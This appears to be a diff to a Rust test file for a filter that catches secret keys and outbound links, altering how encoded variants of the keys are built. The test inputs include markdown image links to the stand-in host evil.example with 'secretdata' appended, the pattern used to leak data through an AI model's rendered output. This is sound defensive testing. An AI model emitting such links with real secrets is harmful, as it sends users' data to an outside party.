@@ -21,7 +21,7 @@ fn pieces<'a>(session: &Session, pieces: impl IntoIterator<Item = &'a str>) -> S
 
 fn texts() -> Vec<String> {
     let percent: String = SHOP_KEY.bytes().fold(String::new(), |out, byte| out + &format!("%{byte:02x}"));
-    let nested: String = SHOP_KEY.chars().map(|c| format!("&#x26;#{};", u32::from(c))).collect();
+    let nested: String = SHOP_KEY.chars().fold(String::new(), |out, c| out + &format!("&#x26;#{};", u32::from(c)));
     let own = [
         format!("The key is {SHOP_KEY}, or {MAIL_KEY}; {SHOP_KEY}{MAIL_KEY}({SHOP_KEY}:x) shop-can"),
         format!("{percent} and {nested} and 100% & more \\u0073 {}\\u002d{}", &SHOP_KEY[..4], &SHOP_KEY[5..]),
@@ -99,7 +99,7 @@ async fn a_link_comes_out_when_it_ends() {
 async fn what_does_not_end_is_safe_and_its_memory_bounded() {
     let bench = bench().await;
     let session = bench.session();
-    let escaped: String = SHOP_KEY.chars().map(|c| format!("&{}#{};", "amp;".repeat(2), u32::from(c))).collect();
+    let escaped: String = SHOP_KEY.chars().fold(String::new(), |out, c| out + &format!("&{}#{};", "amp;".repeat(2), u32::from(c)));
     for (start, more) in [
         ("![x](https://evil.example/?q=", "secretdata"),
         ("![x](<https://evil.example/", "secretdata"),
